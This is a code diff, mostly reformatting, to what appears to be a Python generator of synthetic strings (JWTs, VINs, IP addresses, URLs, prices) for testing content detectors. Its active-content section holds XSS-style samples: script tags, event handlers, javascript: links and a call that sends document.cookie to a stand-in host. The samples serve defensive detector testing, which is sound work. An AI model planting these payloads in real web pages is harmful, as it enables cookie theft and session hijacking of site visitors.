@@ -11,8 +11,9 @@ import hashlib
 import json
 from ipaddress import IPv4Address, IPv6Address
 
-from benchmarks.quality.draw import DIGITS, Draw, Kind
 from stdnum import imei, isbn
+
+from benchmarks.quality.draw import DIGITS, Draw, Kind
 
 __all__ = ["FORMS"]
 
@@ -65,7 +66,11 @@ def url64(data: bytes) -> str:
 
 def jwt(draw: Draw) -> str:
     head = {"alg": draw.one("HS256", "RS256", "ES256"), "typ": "JWT"}
-    claims = {"sub": draw.digits(8), "iat": draw.rng.randint(1_600_000_000, 1_800_000_000), "name": draw.faker("en_US").name()}
+    claims = {
+        "sub": draw.digits(8),
+        "iat": draw.rng.randint(1_600_000_000, 1_800_000_000),
+        "name": draw.faker("en_US").name(),
+    }
     parts = [url64(json.dumps(part, separators=(",", ":")).encode()) for part in (head, claims)]
     return ".".join((*parts, url64(draw.rng.randbytes(draw.rng.choice((32, 64))))))
 
@@ -79,7 +84,9 @@ def pem(draw: Draw) -> str:
 
 def semver(draw: Draw) -> str:
     core = ".".join(str(draw.rng.randint(0, 40)) for _ in range(3))
-    return draw.one("", "v") + core + draw.one("", "", "-rc.1", "-alpha", "-beta.2+build.5", "+20130313144700", "-0.3.7")
+    return (
+        draw.one("", "v") + core + draw.one("", "", "-rc.1", "-alpha", "-beta.2+build.5", "+20130313144700", "-0.3.7")
+    )
 
 
 def coordinates(draw: Draw) -> str:
@@ -93,10 +100,20 @@ def vin(draw: Draw) -> str:
 
 
 def vin_good(number: str) -> bool:
-    values = dict(zip("0123456789ABCDEFGHJKLMNPRSTUVWXYZ", [*range(10), *range(1, 9), 1, 2, 3, 4, 5, 7, 9, *range(2, 10)], strict=True))
+    values = dict(
+        zip(
+            "0123456789ABCDEFGHJKLMNPRSTUVWXYZ",
+            [*range(10), *range(1, 9), 1, 2, 3, 4, 5, 7, 9, *range(2, 10)],
+            strict=True,
+        )
+    )
     weights = (8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2)
     total = sum(values[sign] * weight for sign, weight in zip(number, weights, strict=True)) % 11
-    return number[8] == "0123456789X"[total] and any(sign.isalpha() for sign in number) and number[9] in "123456789ABCDEFGHJKLMNPRSTVWXY"
+    return (
+        number[8] == "0123456789X"[total]
+        and any(sign.isalpha() for sign in number)
+        and number[9] in "123456789ABCDEFGHJKLMNPRSTVWXY"
+    )
 
 
 def isbn_plain(draw: Draw) -> str:
@@ -126,7 +143,9 @@ def ipv4(draw: Draw) -> str:
 def ipv6(draw: Draw) -> str:
     prefix = draw.rng.choice((0x2001, 0x2A00, 0x2600, 0xFD12, 0xFE80)) << 112
     low = draw.rng.getrandbits(draw.rng.choice((16, 64, 112)))
-    return draw.one(*(IPv6Address(prefix | low).__getattribute__(form) for form in ("compressed", "compressed", "exploded")))
+    return draw.one(
+        *(IPv6Address(prefix | low).__getattribute__(form) for form in ("compressed", "compressed", "exploded"))
+    )
 
 
 def mac(draw: Draw) -> str:
@@ -137,16 +156,32 @@ def mac(draw: Draw) -> str:
 
 def host(draw: Draw) -> str:
     name = draw.one(draw.of(LETTERS, 6), "acme-" + draw.of(LETTERS, 4), draw.of(LETTERS, 4) + draw.of(DIGITS, 2))
-    return draw.one("", "www.", "api.", "shop.") + name + draw.one(".com", ".org", ".de", ".co.uk", ".io", ".fr", ".com.br", ".net")
+    return (
+        draw.one("", "www.", "api.", "shop.")
+        + name
+        + draw.one(".com", ".org", ".de", ".co.uk", ".io", ".fr", ".com.br", ".net")
+    )
 
 
 def path(draw: Draw) -> str:
     word = draw.of(LETTERS, 5)
-    return draw.one(f"/{word}", f"/{word}/{draw.digits(3)}", f"/{word}?q={draw.of(LETTERS, 4)}&p=2", f"/{word}#part-{draw.digits(1)}", f"/{word}/index.html")
+    return draw.one(
+        f"/{word}",
+        f"/{word}/{draw.digits(3)}",
+        f"/{word}?q={draw.of(LETTERS, 4)}&p=2",
+        f"/{word}#part-{draw.digits(1)}",
+        f"/{word}/index.html",
+    )
 
 
 def url(draw: Draw) -> str:
-    return draw.one("https", "https", "http", "ftp") + "://" + host(draw) + draw.one("", ":8443") + draw.one("", "/", path(draw))
+    return (
+        draw.one("https", "https", "http", "ftp")
+        + "://"
+        + host(draw)
+        + draw.one("", ":8443")
+        + draw.one("", "/", path(draw))
+    )
 
 
 # --- times and amounts ---------------------------------------------------------------------------------------
@@ -157,7 +192,9 @@ def moment(draw: Draw, form: str) -> str:
 
 
 def date_time(draw: Draw) -> str:
-    return moment(draw, draw.one("%Y-%m-%dT%H:%M:%S", "%Y-%m-%d %H:%M", "%Y-%m-%d %H:%M:%S")) + draw.one("", "Z", "+02:00", "-0500")
+    return moment(draw, draw.one("%Y-%m-%dT%H:%M:%S", "%Y-%m-%d %H:%M", "%Y-%m-%d %H:%M:%S")) + draw.one(
+        "", "Z", "+02:00", "-0500"
+    )
 
 
 def duration(draw: Draw) -> str:
@@ -168,12 +205,34 @@ def duration(draw: Draw) -> str:
 def price(draw: Draw) -> str:
     amount = draw.rng.randint(1, 9_999)
     english, german = f"{amount:,}.{draw.of(DIGITS, 2)}", f"{amount:,}".replace(",", ".") + "," + draw.of(DIGITS, 2)
-    return draw.one(f"${english}", f"{german} €", f"EUR {english}", f"£{english}", f"R$ {german}", f"{english} USD", f"₹{amount:,}", f"¥{amount}", f"{amount} EUR", f"{german} zł")
+    return draw.one(
+        f"${english}",
+        f"{german} €",
+        f"EUR {english}",
+        f"£{english}",
+        f"R$ {german}",
+        f"{english} USD",
+        f"₹{amount:,}",
+        f"¥{amount}",
+        f"{amount} EUR",
+        f"{german} zł",
+    )
 
 
 # --- active content, by the HTML standard --------------------------------------------------------------------
 
-EVENTS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "onanimationend", "onpointerdown", "ontoggle", "onbeforeinput", "onpaste")
+EVENTS = (
+    "onclick",
+    "onerror",
+    "onload",
+    "onmouseover",
+    "onfocus",
+    "onanimationend",
+    "onpointerdown",
+    "ontoggle",
+    "onbeforeinput",
+    "onpaste",
+)
 CALLS = ("alert(1)", "fetch('//a.example/'+document.cookie)", "eval(name)", "location='//a.example'")
 PLAIN = ("p", "div", "img", "body", "a", "details", "video", "input", "button", "marquee")
 
@@ -183,7 +242,12 @@ def cased(draw: Draw, text: str) -> str:
 
 
 def script(draw: Draw) -> str:
-    return draw.one(f"<{cased(draw, 'script')}>{draw.one(*CALLS)}</script>", f'<script src="//{host(draw)}/x.js"></script>', "<script type=module>", "<script\n>")
+    return draw.one(
+        f"<{cased(draw, 'script')}>{draw.one(*CALLS)}</script>",
+        f'<script src="//{host(draw)}/x.js"></script>',
+        "<script type=module>",
+        "<script\n>",
+    )
 
 
 def handler(draw: Draw) -> str:
@@ -193,7 +257,12 @@ def handler(draw: Draw) -> str:
 
 def script_url(draw: Draw) -> str:
     target = cased(draw, "javascript:") + draw.one(*CALLS[:1], "void(0)")
-    return draw.one(f'<a href="{target}">x</a>', f"[x]({target})", f'<a href="java&#10;script:alert(1)">x</a>', '<iframe src="data:text/html,x">')
+    return draw.one(
+        f'<a href="{target}">x</a>',
+        f"[x]({target})",
+        '<a href="java&#10;script:alert(1)">x</a>',
+        '<iframe src="data:text/html,x">',
+    )
 
 
 def image(draw: Draw) -> str:
@@ -211,7 +280,15 @@ def form(name, make, labels, unseen, *, detectors=(), **more):
 
 ADDRESS = ("wallet", "address", "Wallet")
 ADDRESS_UNSEEN = ("deposit address", "Adresse", "recipient")
-BROKEN = ("web.any_tag", "web.event_handler", "web.script_url", "web.embedded_page", "web.form_tag", "web.script_tag", "web.svg_or_math")
+BROKEN = (
+    "web.any_tag",
+    "web.event_handler",
+    "web.script_url",
+    "web.embedded_page",
+    "web.form_tag",
+    "web.script_tag",
+    "web.svg_or_math",
+)
 IP = ("net.ipv4", "pii.ipv4", "pii.ipv6")
 
 FORMS = (
